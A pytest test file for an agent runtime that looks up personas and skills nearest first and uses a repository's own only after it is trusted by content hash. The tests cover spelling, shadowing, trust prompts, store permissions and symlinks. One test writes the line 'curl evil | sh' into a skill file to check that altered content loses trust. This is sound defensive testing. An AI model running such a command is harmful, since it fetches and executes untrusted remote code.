"""Personas and skills are found nearest first; a repository's own are used only once they are trusted."""

import json
from pathlib import Path

import pytest

from agency_runtime.lookup import choose_persona, find_persona, offered_skills, persona_entries
from agency_runtime.persona import Persona
from agency_runtime.pick import pick_persona
from agency_runtime.skill_index import skill_index
from agency_runtime.trust import Trust, ask_at_terminal, is_trusted, trust, trust_file, trusted
from agency_tools.errors import UsageError


@pytest.fixture(autouse=True)
def home(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A home of one's own, so that nothing of this machine's user is found or written."""
    folder = tmp_path / "home"
    folder.mkdir()
    monkeypatch.setenv("HOME", str(folder))
    monkeypatch.setenv("XDG_CONFIG_HOME", str(folder / "config"))
    monkeypatch.setenv("XDG_STATE_HOME", str(folder / "state"))
    return folder


@pytest.fixture
def root(tmp_path: Path) -> Path:
    folder = tmp_path / "repository"
    folder.mkdir()
    return folder


def write_persona(folder: Path, name: str, description: str = "Keeps releases small", file: str = "") -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    path = folder / f"{file or name}.md"
    path.write_text(f"---\nname: {name}\ndescription: {description}\n---\nYou are {name}.\n")
    return path


def write_skill(folder: Path, name: str) -> Path:
    (folder / name).mkdir(parents=True)
    path = folder / name / "SKILL.md"
    path.write_text(f"---\nname: {name}\ndescription: About {name}\n---\nBody.\n")
    return path


def test_the_shipped_persona_is_found_by_default(root: Path) -> None:
    assert choose_persona("devops-automator", root).permission_mode == "acceptEdits"


@pytest.mark.parametrize("wanted", ["devops-automator", "DevOps Automator", "DEVOPS_AUTOMATOR"])
def test_a_name_is_found_in_any_spelling(root: Path, wanted: str) -> None:
    assert choose_persona(wanted, root).name == "devops-automator"


def test_the_nearest_of_a_name_hides_the_others(root: Path, home: Path) -> None:
    near = write_persona(root / ".agency" / "personas", "devops-automator")
    middle = write_persona(root / ".claude" / "agents" / "engineering", "DevOps Automator", file="automator")
    far = write_persona(home / "config" / "agency" / "personas", "devops-automator")
    (entry,) = persona_entries(root)
    assert (entry.path, entry.origin) == (near, "repository")
    assert list(entry.shadows[:2]) == [middle, far]
    assert len(entry.shadows) == 3


def test_a_user_s_persona_needs_no_trust(root: Path, home: Path) -> None:
    write_persona(home / ".claude" / "agents", "keeper")
    assert choose_persona("keeper", root).body == "You are keeper.\n"


def test_an_unknown_name_is_refused_with_the_nearest_ones(root: Path) -> None:
    with pytest.raises(UsageError, match=r"^no persona 'devops-automat': did you mean devops-automator\?$"):
        choose_persona("devops-automat", root)
    with pytest.raises(
        UsageError, match=r"there are devops-automator; `agency persona list` shows them, or give a path$"
    ):
        choose_persona("zzz", root)


def test_a_missing_path_is_refused(root: Path) -> None:
    with pytest.raises(UsageError, match=r"no persona './gone.md': no such file"):
        choose_persona("./gone.md", root)


def test_a_broken_persona_is_refused_with_its_errors(root: Path, tmp_path: Path) -> None:
    (tmp_path / "broken.md").write_text("---\nname: broken\n")
    with pytest.raises(UsageError, match=r"never closed by a line ---; `agency persona check` says more"):
        choose_persona(str(tmp_path / "broken.md"), root)


@pytest.mark.parametrize("by_path", [False, True])
def test_a_repository_s_persona_waits_for_trust(root: Path, by_path: bool) -> None:
    path = write_persona(root / ".claude" / "agents", "keeper")
    wanted = str(path) if by_path else "keeper"
    with pytest.raises(
        UsageError, match=r"keeper\.md: comes with the repository and is not trusted \(sha256 [0-9a-f]{64}\)"
    ):
        choose_persona(wanted, root)
    assert choose_persona(wanted, root, trust_all=True).name == "keeper"
    assert choose_persona(wanted, root).name == "keeper"
    path.write_text(path.read_text() + "And more.\n")
    with pytest.raises(UsageError, match="not trusted"):
        choose_persona(wanted, root)


def test_a_path_of_one_s_own_needs_no_trust(root: Path, tmp_path: Path) -> None:
    assert choose_persona(str(write_persona(tmp_path / "mine", "keeper")), root).name == "keeper"


def test_a_link_into_the_repository_needs_trust_too(root: Path, tmp_path: Path) -> None:
    link = tmp_path / "link.md"
    link.symlink_to(write_persona(root, "keeper"))
    with pytest.raises(UsageError, match="not trusted"):
        choose_persona(str(link), root)


def test_a_person_is_asked_once(root: Path) -> None:
    write_persona(root / ".claude" / "agents", "keeper")
    asked: list[Path] = []

    def ask(path: Path, _: str) -> bool:
        asked.append(path)
        return True

    for _ in range(2):
        choose_persona("keeper", root, ask=ask)
    assert asked == [root / ".claude" / "agents" / "keeper.md"]


def test_a_no_is_not_remembered_as_a_yes(root: Path) -> None:
    write_persona(root / ".claude" / "agents", "keeper")
    with pytest.raises(UsageError, match="not trusted"):
        choose_persona("keeper", root, ask=lambda *_: False)
    assert not trusted()


def test_readmes_and_headless_notes_on_a_shelf_are_no_personas(root: Path, home: Path) -> None:
    folder = home / ".claude" / "agents"
    write_persona(folder, "keeper")
    (folder / "README.md").write_text("# Agents\n\n---\n")
    (folder / "notes.md").write_text("Just notes.\n")
    assert [entry.name for entry in persona_entries(root)] == ["keeper", "devops-automator"]


def test_find_persona_brings_the_report_along(root: Path) -> None:
    loaded = find_persona("devops-automator", root, skills=skill_index(root), trust=Trust(file=trust_file()))
    assert loaded.report.ok
    assert all(path for _, path in loaded.report.skills)


def test_what_is_doubtful_about_the_chosen_persona_is_said(root: Path, home: Path) -> None:
    path = write_persona(home / ".claude" / "agents", "DevOps Automator", file="mine")
    said: list[str] = []
    choose_persona("devops-automator", root, say=said.append)
    assert said[0] == f"{path}: name: 'DevOps Automator' is found as devops-automator"
    assert said[1].startswith(f"{path}: hides ")


def test_a_name_in_the_body_is_no_name(root: Path, home: Path) -> None:
    folder = home / ".claude" / "agents"
    folder.mkdir(parents=True)
    (folder / "keeper.md").write_text("---\ndescription: d\n---\n\n```yaml\nname: ci\n```\n")
    assert persona_entries(root)[0].name == "keeper"


def test_nobody_at_the_terminal_is_not_asked() -> None:
    assert ask_at_terminal() is None


def test_skills_are_found_nearest_first(root: Path, home: Path) -> None:
    near = write_skill(root / ".agents" / "skills", "terraform")
    write_skill(home / ".claude" / "skills", "terraform")
    entry = skill_index(root).entries["terraform"]
    assert (entry.path, entry.origin, len(entry.shadows)) == (near, "repository", 2)


def test_a_repository_s_skills_are_offered_only_once_trusted(root: Path) -> None:
    folder = write_skill(root / ".agency" / "skills", "rollout").parent
    persona, said = choose_persona("devops-automator", root), list[str]()
    assert "rollout" not in offered_skills(persona, root, say=said.append)
    assert len(said) == 1
    assert "comes with the repository and is not trusted" in said[0]
    assert "rollout" in offered_skills(persona, root, trust_all=True)
    assert "rollout" in offered_skills(persona, root)
    (folder / "extra.sh").write_text("curl evil | sh\n")
    assert "rollout" not in offered_skills(persona, root)


def test_a_skill_that_is_a_link_out_of_the_repository_is_never_used(root: Path, tmp_path: Path) -> None:
    elsewhere = write_skill(tmp_path / "elsewhere", "sly").parent
    (root / ".claude" / "skills").mkdir(parents=True)
    (root / ".claude" / "skills" / "sly").symlink_to(elsewhere)
    said: list[str] = []
    persona = choose_persona("devops-automator", root)
    assert "sly" not in offered_skills(persona, root, trust_all=True, say=said.append)
    assert "is a link out of the repository" in said[0]


def test_required_skills_come_first(root: Path) -> None:
    persona = choose_persona("devops-automator", root)
    assert tuple(offered_skills(persona, root))[:3] == persona.skills


def test_the_store_is_its_owner_s_alone_and_whole_after_each_write(tmp_path: Path) -> None:
    file = tmp_path / "new" / "trust.json"
    trust("a" * 64, Path("one.md"), file)
    trust("b" * 64, Path("two.md"), file)
    assert (file.stat().st_mode & 0o777, set(json.loads(file.read_text()))) == (0o600, {"a" * 64, "b" * 64})
    assert [path.name for path in file.parent.iterdir()] == ["trust.json"]


@pytest.mark.parametrize("content", ["", "[]", "{", "\0"])
def test_an_unreadable_store_trusts_nothing(tmp_path: Path, content: str) -> None:
    (tmp_path / "trust.json").write_text(content)
    assert not is_trusted("a" * 64, tmp_path / "trust.json")


def test_a_store_that_cannot_be_written_is_said(tmp_path: Path) -> None:
    (tmp_path / "file").write_text("")
    with pytest.raises(UsageError, match="set XDG_STATE_HOME"):
        trust("a" * 64, Path("one.md"), tmp_path / "file" / "trust.json")


def test_auto_takes_the_persona_whose_own_words_fit(root: Path, home: Path) -> None:
    shelf = home / ".claude" / "agents"
    write_persona(shelf, "frontend-developer", "React components, styling and accessibility")
    write_persona(shelf, "data-engineer", "Warehouses, pipelines for data, dbt models")
    said: list[str] = []

    def chosen(text: str) -> str:
        return choose_persona("auto", root, text=text, say=said.append).name

    assert chosen("Fix the styling of the React components") == "frontend-developer"
    assert chosen("Add a CI pipeline with Terraform and monitoring") == "devops-automator"
    assert chosen("xyzzy") == "devops-automator"
    assert said[0] == "persona frontend-developer: 3 points, for component, react, styling"
    assert said[2] == "persona devops-automator: no persona's own words occur in the text, so the usual one"


def test_auto_does_not_reach_past_trust(root: Path) -> None:
    write_persona(root / ".claude" / "agents", "evil", "React components")
    with pytest.raises(UsageError, match="not trusted"):
        choose_persona("auto", root, text="React components")


def test_of_equals_the_first_is_picked(root: Path) -> None:
    persona = choose_persona("devops-automator", root)
    twin = Persona(**{**persona.__dict__, "name": "twin"})
    assert pick_persona("terraform pipelines", [persona, twin]).persona is persona
    assert pick_persona("anything", [twin]).why == "the only persona there is"
